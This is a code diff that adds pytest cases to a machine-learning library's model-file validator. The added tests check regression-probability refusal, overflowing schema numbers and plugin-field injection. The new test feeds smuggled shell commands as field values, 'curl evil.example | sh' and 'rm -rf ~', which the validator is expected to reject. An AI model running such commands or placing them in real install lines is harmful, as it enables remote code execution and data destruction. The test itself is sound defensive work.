@@ -55,6 +55,8 @@ def test_npz_files_hold_the_schema_too(tmp_path):
                                t.dataset.inverse_target(t.predict(t.dataset.X_test)), rtol=1e-10)
     with pytest.raises(ValueError, match="no class probabilities: it is a regression model"):
         predictor.predict_proba(ds.X_test)
+    with pytest.raises(ValueError, match="no class probabilities: it is a regression model"):
+        predictor.predict_csv(tmp_path / "not-read.csv", proba=True)  # refused before the file is read
 
 
 def good(tmp_path, digits_run):
@@ -69,6 +71,8 @@ BAD_SCHEMA = [
     ({"features": ["a", "b"]}, r"names 2 features but the model takes 64"),
     ({"mean": [0.0] * 3}, r"schema\['mean'\] holds 3 numbers, expected 64"),
     ({"scale": [0.0] * 64}, r"schema\['scale'\]\[0\] = 0.0 must be a finite number > 0"),
+    ({"mean": [10**400] * 64}, r"schema\['mean'\]\[0\] = 1000+\.\.\. must be a finite number"),  # no float
+    ({"target_scale": [10**400] * 10}, r"schema\['target_scale'\]\[0\] = 1000+\.\.\. must be a finite number"),
     ({"classes": ["a", "a"] + [str(i) for i in range(8)]}, r"schema\['classes'\] must hold distinct"),
     ({"classes": ["a", "b", "c"]}, "holds 3 classes but the model has 10 outputs"),
     ({"classes": [{"__import__": "os"}] * 10}, "distinct strings or numbers"),
@@ -153,3 +157,10 @@ def test_a_plugin_component_is_recorded_and_a_missing_one_names_its_distribution
     path.write_text(json.dumps(doc))
     with pytest.raises(ModelFileError, match=r"components\[0\] must be an object with kind, name"):
         modelfile.read(path)
+    # the distribution is quoted in a pip install line: a file cannot put a shell command there
+    for key, value in (("distribution", "microgradx-scale; curl evil.example | sh"), ("version", "1.0 && rm -rf ~")):
+        doc["components"] = [{"kind": "layers", "name": "Scale", "plugin": "scale", "distribution": "microgradx-scale",
+                              "version": "1.2.0", key: value}]
+        path.write_text(json.dumps(doc))
+        with pytest.raises(ModelFileError, match=rf"components\[0\]\['{key}'\] = .* is not a"):
+            modelfile.read(path)
